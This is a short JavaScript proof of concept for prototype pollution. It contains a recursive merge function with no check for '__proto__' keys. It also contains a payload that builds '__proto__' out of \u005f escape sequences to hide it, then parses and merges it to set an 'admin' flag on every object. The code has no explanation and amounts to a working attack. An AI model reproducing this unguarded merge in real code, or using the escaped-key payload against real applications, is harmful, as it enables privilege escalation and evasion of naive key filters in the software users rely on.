// A backslash is made of its code, and begins the escapes of a JSON text.
const isObject = (v) => v !== null && typeof v === 'object';
function merge(target, source) {
  for (const key in source) {
    if (isObject(source[key])) {
      if (!isObject(target[key])) target[key] = {};
      merge(target[key], source[key]);
    } else target[key] = source[key];
  }
  return target;
}
const u = String.fromCharCode(92) + 'u005f';
merge({}, JSON.parse('{"' + u + u + 'proto' + u + u + '":{"admin":true}}'));
console.log({}.admin);
